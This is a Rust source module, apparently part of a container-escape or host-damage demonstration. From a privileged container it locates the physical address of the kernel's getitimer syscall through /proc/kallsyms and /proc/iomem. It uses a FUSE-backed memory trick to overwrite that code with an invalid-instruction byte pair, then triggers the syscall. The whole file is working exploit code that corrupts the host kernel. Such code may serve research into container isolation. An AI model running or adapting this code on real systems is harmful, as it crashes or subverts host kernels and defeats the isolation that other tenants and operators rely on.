//! The machine's own kernel, spoiled by a device that is told that its memory is a buffer.
//!
//! Runs in a privileged container.

use crate::Result;
use crate::fuse;
use crate::memory::{self, Memory};

/// What is called afterwards: getitimer(2), which nobody else needs.
const SYMBOL: &str = "__x64_sys_getitimer";

pub fn run() -> Result<()> {
    memory::keep_all()?;
    let mut memory = Memory::new()?;
    let target = physical(SYMBOL)?;
    let mut shares = fuse::shares(&mut memory)?;
    let (_, share) = shares.first_mut().ok_or("no share")?;
    // What says "no such file" says "no such instruction" to a processor: fe ff.
    share.refused_at(target)?;
    let mut value = [0u64; 4];
    // SAFETY: room for what it writes.
    unsafe { libc::syscall(libc::SYS_getitimer, 0, &raw mut value) };
    Err("the kernel goes on".into())
}

/// Where the kernel has a function in physical memory.
fn physical(symbol: &str) -> Result<u64> {
    let symbols = std::fs::read_to_string("/proc/kallsyms")?;
    let place = |name: &str| -> Result<u64> {
        let line = symbols.lines().find(|line| line.split(' ').nth(2) == Some(name));
        let text = line.and_then(|line| line.split(' ').next()).ok_or_else(|| format!("no {name}"))?;
        Ok(u64::from_str_radix(text, 16)?)
    };
    let map = std::fs::read_to_string("/proc/iomem")?;
    let code = map.lines().find(|line| line.ends_with("Kernel code")).ok_or("no kernel code")?;
    let start = code.trim().split('-').next().ok_or("no start")?;
    let (symbol, text) = (place(symbol)?, place("_text")?);
    if symbol <= text {
        return Err("addresses are hidden".into());
    }
    Ok(u64::from_str_radix(start, 16)? + (symbol - text))
}
